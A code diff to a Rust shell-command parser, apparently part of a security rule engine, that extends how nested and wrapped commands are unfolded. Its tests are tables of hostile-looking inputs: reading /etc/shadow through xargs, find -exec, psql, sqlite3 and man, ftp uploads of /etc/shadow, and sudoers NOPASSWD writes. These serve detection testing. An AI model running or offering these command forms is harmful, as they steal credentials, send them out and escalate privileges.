@@ -16,7 +16,8 @@
 //!   ([`Known`]); what other programs print and files hold is not, and its text stays as it was typed;
 //! - nesting beyond [`DEPTH_LIMIT`], more than [`COMMAND_LIMIT`] commands or more than [`TEXT_LIMIT`] bytes are not
 //!   read; [`Reading::cut`] says so;
-//! - the arguments of a function are not put into its body, and what `set --`, `read` and `printf -v` set is not known;
+//! - the arguments of a function are not put into its body, and what `read` takes from a pipe or a file is not known;
+//! - of a loop's words only the first is looked at, unless all of them are paths;
 //! - both branches of `if` and every arm of `case` count as run;
 //! - text that only `sed`, `awk` or a compiler puts together is not recovered.
 
@@ -94,6 +95,8 @@ pub struct SimpleCommand {
     pub parent: Option<usize>,
     /// The script it belongs to.
     pub script: usize,
+    /// The loop that it is the first command of: `while`, or `for NAME in words` as typed.
+    pub loop_head: Option<String>,
     /// How it is joined to the command before it in its script; `None` where a carrier's arguments are the command.
     pub joint: Option<Joint>,
     /// Which arguments are only data, or hold data: what a rule sees in their place. Sorted.
@@ -410,7 +413,39 @@ mod tests {
             ("timeout -k 3 10 stdbuf -oL cat /etc/shadow", "timeout > stdbuf > cat /etc/shadow"),
             ("echo /etc/shadow | xargs cat", "xargs > cat /etc/shadow"),
             ("echo /etc/shadow | xargs -I{} cat {}", "xargs > cat /etc/shadow"),
-            ("find / -name shadow -exec cat {} \\;", "find -exec > cat {}"),
+            ("find / -name shadow -exec cat {} \\;", "find -exec > cat /etc/shadow"),
+            ("find /etc -type f -name shadow -exec cat {} +", "find -exec > cat /etc/shadow"),
+            ("find / -name '*.c' -exec cat {} \\;", "find -exec > cat {}"),
+            ("find /etc -name 'shad*' | xargs cat", "xargs > cat /etc/shadow"),
+            ("find /etc -name shadow | xargs cat", "xargs > cat /etc/shadow"),
+            ("ls /etc/shadow | xargs -I% cat %", "xargs > cat /etc/shadow"),
+            ("T=$(mktemp -d); cd $T; sh a", "sh a"),
+            ("T=$(mktemp); curl -o $T a", "curl -o /tmp/tmp.XXXXXXXXXX a"),
+            ("mkdir $(mktemp -d /var/tmp/x.XXX)/y", "mkdir /var/tmp/x.XXX/y"),
+            ("set -- cat /etc/shadow; $@", "cat /etc/shadow"),
+            ("set -- /etc/shadow; cat \"$1\"", "cat /etc/shadow"),
+            ("read -r a b <<< 'cat /etc/shadow'; $a $b", "cat /etc/shadow"),
+            ("printf -v a '%s%s' ca t; $a /etc/shadow", "cat /etc/shadow"),
+            ("for f in /etc/passwd ~/x /etc/shadow; do cat $f; done", "cat /etc/passwd ~/x /etc/shadow"),
+            ("for h in a b; do ssh $h cat /etc/shadow; done", "ssh > cat /etc/shadow"),
+            ("psql -c '\\! cat /etc/shadow'", "psql > system > cat /etc/shadow"),
+            ("psql <<< '\\! cat /etc/shadow'", "psql > system > cat /etc/shadow"),
+            ("psql -c \"COPY t FROM PROGRAM 'cat /etc/shadow'\"", "psql > system > cat /etc/shadow"),
+            ("mysql -e 'system cat /etc/shadow'", "mysql > system > cat /etc/shadow"),
+            ("sqlite3 a.db <<E\n.shell cat /etc/shadow\nE", "sqlite3 > system > cat /etc/shadow"),
+            ("ftp -n host <<E\nput /etc/shadow\nE", "ftp > put /etc/shadow"),
+            ("lftp -e 'put /etc/shadow; bye' host", "lftp > put /etc/shadow"),
+            ("tclsh <<< 'exec \"cat /etc/shadow\"'", "tclsh > system > cat /etc/shadow"),
+            ("echo 'cat /etc/shadow' > x; chmod +x x; ./x", "file > cat /etc/shadow"),
+            (
+                "printf '#!/usr/bin/perl\\nsystem(\"cat /etc/shadow\")' > /opt/x; /opt/x",
+                "file > system > cat /etc/shadow",
+            ),
+            ("man -P 'cat /etc/shadow' ls", "man > cat /etc/shadow"),
+            ("man '-Hcat /etc/shadow #' ls", "man > cat /etc/shadow"),
+            ("wall /etc/shadow", "wall /etc/shadow"),
+            ("cowsay -f ./cat moo", "cowsay -f ./cat moo"),
+            ("printf '\\e[?1049h'", "printf \\e[?1049h"),
             ("busybox cat /etc/shadow", "busybox > cat /etc/shadow"),
             ("ssh -i key -p 22 host cat /etc/shadow", "ssh > cat /etc/shadow"),
             ("docker exec -it web cat /etc/shadow", "docker exec > cat /etc/shadow"),
@@ -489,6 +524,13 @@ mod tests {
             ("powershell -c \"whoami; hostname\"", Dialect::Cmd, "powershell -Command > hostname"),
             ("a && b & whoami", Dialect::Cmd, "whoami"),
             ("Get-Process | Out-File x", Dialect::PowerShell, "Out-File x"),
+            ("findstr /s \"whoami\" a.txt", Dialect::Cmd, "findstr /s a.txt"),
+            ("findstr /si password *.txt", Dialect::Cmd, "findstr /si password *.txt"),
+            (
+                "Select-String -Path C:\\a -Pattern x",
+                Dialect::PowerShell,
+                "Select-String -Path C:\\a -Pattern",
+            ),
         ] {
             let found = lines(text, dialect);
             assert!(found.iter().any(|line| line == innermost), "{text}: {found:#?}");
@@ -524,6 +566,8 @@ mod tests {
             ["echo x ALL=(ALL) NOPASSWD: ALL", "sudo tee -a /etc/sudoers", "sudo > tee -a /etc/sudoers"],
             "what is written is not only data"
         );
+        let found = lines("sudo echo 'x ALL=(ALL) ALL' | tee /etc/sudoers", Dialect::Posix);
+        assert!(found.iter().any(|line| line == "sudo > echo x ALL=(ALL) ALL"), "{found:#?}");
     }
 
     #[test]
@@ -555,9 +599,8 @@ mod tests {
             ("echo cXat | awk '{print}' | sh", "sh"),
             ("cat *", "cat *"),
             ("f() { cat $1; }; f /etc/shadow", "f /etc/shadow"),
-            ("set -- cat /etc/shadow; $@", "set -- cat /etc/shadow"),
-            ("read a <<< cat; $a /etc/shadow", "$a /etc/shadow"),
-            ("printf -v a cat; $a /etc/shadow", "$a /etc/shadow"),
+            ("echo cat | while read a; do $a /etc/shadow; done", "$a /etc/shadow"),
+            ("for a in x cat; do $a /etc/shadow; done", "x /etc/shadow"),
         ] {
             let found = lines(text, Dialect::Posix);
             assert!(found.iter().any(|line| line == expected), "{text}: {found:#?}");
